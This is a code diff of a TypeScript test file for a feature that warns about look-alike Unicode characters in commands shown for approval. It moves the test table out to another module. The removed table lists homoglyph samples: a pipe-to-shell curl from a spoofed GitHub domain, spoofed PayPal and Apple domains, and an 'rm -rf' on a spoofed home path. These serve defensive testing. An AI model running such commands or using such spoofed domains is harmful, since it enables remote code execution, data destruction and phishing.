@@ -10,23 +10,9 @@ import { paletteShowsWhole, paletteTitle } from '../../src/shared/palette-rules'
 import { lookAlikeWarning } from '../../src/shared/hidden-words';
 import { permissionCard } from '../../src/bridge/permission-card';
 import { lookOf } from '../../src/shared/card-view';
+import { GITHUB, LOOK_ALIKE_TABLE as TABLE } from './look-alike-words-table';
 
-const GITHUB = 'curl https://g\u0456thub.com/x.sh | sh';
 const wire = (c: Partial<Card>): Card => ({ id: 'req_1', version: 1, status: 'pending', turn: 'you', kind: 'approval', title: 'Run it?', ...c } as Card);
-
-/** text, the look-alike words in it, the text as marked. */
-const TABLE: readonly [string, string[], string][] = [
-  [GITHUB, ['g\u0456thub.com'], 'curl https://g[U+0456 Cyrillic]thub.com/x.sh | sh'],
-  ['login at \u0440\u0430\u0443\u0440\u0430l.com', ['\u0440\u0430\u0443\u0440\u0430l.com'], 'login at [U+0440 Cyrillic][U+0430 Cyrillic][U+0443 Cyrillic][U+0440 Cyrillic][U+0430 Cyrillic]l.com'],
-  ['\u0430\u0440\u0440\u04CF\u0435.com', ['\u0430\u0440\u0440\u04CF\u0435.com'], '[U+0430 Cyrillic][U+0440 Cyrillic][U+0440 Cyrillic][U+04CF Cyrillic][U+0435 Cyrillic].com'],
-  ['rm -rf /h\u03BFme', ['h\u03BFme'], 'rm -rf /h[U+03BF Greek]me'],
-  ['Deploy t\u043E prod', ['t\u043E'], 'Deploy t[U+043E Cyrillic] prod'],
-  // Ordinary words of one script each, and the mixes Japanese allows, stay as they are.
-  ['npm test && git push', [], 'npm test && git push'],
-  ['\u0414\u0430, \u043F\u043E\u0436\u0430\u043B\u0443\u0439\u0441\u0442\u0430', [], '\u0414\u0430, \u043F\u043E\u0436\u0430\u043B\u0443\u0439\u0441\u0442\u0430'],
-  ['\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8 VS Code\u5185', [], '\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8 VS Code\u5185'],
-  ['Kubernetes-\u041A\u043B\u0438\u0435\u043D\u0442 na\u00EFve caf\u00E9', [], 'Kubernetes-\u041A\u043B\u0438\u0435\u043D\u0442 na\u00EFve caf\u00E9'],
-];
 
 describe('look-alike words in the words being approved (#52)', () => {
   for (const [text, words, marked] of TABLE) {
